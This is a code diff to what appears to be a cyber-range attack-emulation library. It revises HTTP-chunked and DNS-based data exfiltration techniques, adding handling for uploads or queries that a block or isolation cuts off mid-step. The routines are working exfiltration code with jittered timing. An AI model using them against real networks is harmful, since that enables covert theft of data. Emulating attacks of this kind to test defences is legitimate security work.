@@ -22,13 +22,15 @@ import time
 
 from cyberrange.attack.spec import Param, technique
 from cyberrange.attack.techniques.c2 import (
+    CUT_AFTER,
+    DEAD,
     DnsClient,
     first_rdata,
     http_request,
     jittered,
     parse_service,
 )
-from cyberrange.attack.techniques.common import Result, conclude
+from cyberrange.attack.techniques.common import Blocked, Result, conclude
 
 MAX_DOCUMENT = 50_000_000
 
@@ -96,34 +98,40 @@ def http_exfil(targets: list[str], params: dict) -> Result:
     rng = random.Random(params["seed"])
     pieces = [doc[i:i + chunk] for i in range(0, len(doc), chunk)]
     sent_bytes, statuses = 0, {}
-    for seq, piece in enumerate(pieces):
-        if seq and rate > 0:
-            time.sleep(jittered(1.0 / rate, jitter, rng))
-        status, fl, _b = http_request(ip, port, "POST", f"{prefix}/{session}/{seq}", piece, ua,
-                                      {"Content-Type": "application/octet-stream"})
-        res.flows.append(fl)
-        statuses[status] = statuses.get(status, 0) + 1
-        if status == "ok":
-            sent_bytes += len(piece)
-        elif status in ("refused", "timeout", "unreachable"):
-            res.log.append(f"chunk {seq}: {status}; stopping")
-            break
     digest = hashlib.sha256(doc).hexdigest()
     complete = False
-    if sent_bytes == len(doc):
-        meta = json.dumps({"chunks": len(pieces), "sha256": digest}).encode()
-        status, fl, body = http_request(ip, port, "POST", f"{prefix}/{session}/done", meta, ua,
-                                        {"Content-Type": "application/json"})
-        res.flows.append(fl)
-        try:
-            complete = status == "ok" and bool(json.loads(body).get("ok"))
-        except ValueError:
-            complete = False
+    try:
+        for seq, piece in enumerate(pieces):
+            if seq and rate > 0:
+                time.sleep(jittered(1.0 / rate, jitter, rng))
+            status, fl, _b = http_request(ip, port, "POST", f"{prefix}/{session}/{seq}", piece,
+                                          ua, {"Content-Type": "application/octet-stream"})
+            res.flows.append(fl)
+            statuses[status] = statuses.get(status, 0) + 1
+            if status == "ok":
+                sent_bytes += len(piece)
+            elif status in DEAD:
+                res.log.append(f"chunk {seq}: {status}; stopping")
+                if sent_bytes:
+                    res.cut(f"{ip}:{port} stopped taking uploads ({status}) after {seq} "
+                            f"chunks: a block or an isolation mid-step")
+                break
+        if sent_bytes == len(doc):
+            meta = json.dumps({"chunks": len(pieces), "sha256": digest}).encode()
+            status, fl, body = http_request(ip, port, "POST", f"{prefix}/{session}/done", meta,
+                                            ua, {"Content-Type": "application/json"})
+            res.flows.append(fl)
+            try:
+                complete = status == "ok" and bool(json.loads(body).get("ok"))
+            except ValueError:
+                complete = False
+    except Blocked as exc:          # the actor's own node stopped sending
+        res.cut(exc.reason)
     res.log.append(f"{len(pieces)} chunks of {chunk} bytes; statuses {statuses}")
     res.facts = {"bytes": sent_bytes, "chunks": len(pieces), "sha256": digest,
                  "session": session, "complete": complete}
-    return conclude(res, complete,
-                    not sent_bytes and set(statuses) <= {"refused", "timeout", "unreachable"})
+    return conclude(res, complete, not sent_bytes and set(statuses) <= set(DEAD)
+                    and "every upload was refused or dropped (a firewall on the path)")
 
 
 # --------------------------------------------------------------------------- T1048 (DNS)
@@ -166,11 +174,12 @@ def dns_exfil(targets: list[str], params: dict) -> Result:
     ip, port = parse_service(targets[0], 53)
     if len(targets) > 1:
         res.log.append(f"exfiltrating through one server: {ip}:{port}")
-    client = DnsClient(ip, port, float(params["timeout"]), int(params["retries"]))
-    answered, lost, final = 0, 0, None
+    client = None
+    answered, lost, in_a_row, final = 0, 0, 0, None
     t0 = time.monotonic()
     due = t0
     try:
+        client = DnsClient(ip, port, float(params["timeout"]), int(params["retries"]))
         for k, name in enumerate(names):
             if k and rate > 0:
                 due += jittered(1.0 / rate, jitter, rng)
@@ -180,21 +189,31 @@ def dns_exfil(targets: list[str], params: dict) -> Result:
             ans = client.query(name, "A")
             if ans is None:
                 lost += 1
+                in_a_row += 1
                 if answered == 0 and k >= 2:
                     res.log.append("no answer to the first queries; stopping")
                     break
+                if answered and in_a_row >= CUT_AFTER:
+                    res.cut(f"{ip}:{port} stopped answering after {answered} answered queries "
+                            f"({in_a_row} in a row unanswered): a block mid-step")
+                    break
                 continue
             answered += 1
+            in_a_row = 0
             if k == len(names) - 1:
                 final = first_rdata(ans)
+    except Blocked as exc:          # the actor's own node stopped sending
+        res.cut(exc.reason)
     finally:
-        res.flows.append(client.close())
+        if client is not None:
+            res.flows.append(client.close())
     took = time.monotonic() - t0
     complete = final == "10.0.0.1"
-    res.log.append(f"{len(names)} names, {client.packets} datagrams ({lost} unanswered after "
+    queries = client.packets if client else 0
+    res.log.append(f"{len(names)} names, {queries} datagrams ({lost} unanswered after "
                    f"retries) in {took:.2f}s")
-    res.facts = {"bytes": len(doc), "queries": client.packets, "sha256": hashlib.sha256(doc).hexdigest(),
-                 "session": session, "complete": complete}
-    res.outcome = "succeeded" if complete else ("blocked" if answered == 0 else "failed")
-    res.end = time.time()
-    return res
+    res.facts = {"bytes": len(doc), "queries": queries,
+                 "sha256": hashlib.sha256(doc).hexdigest(), "session": session,
+                 "complete": complete}
+    return conclude(res, complete, answered == 0 and "no query was answered (a firewall "
+                                                      "drops them, or no server listens)")
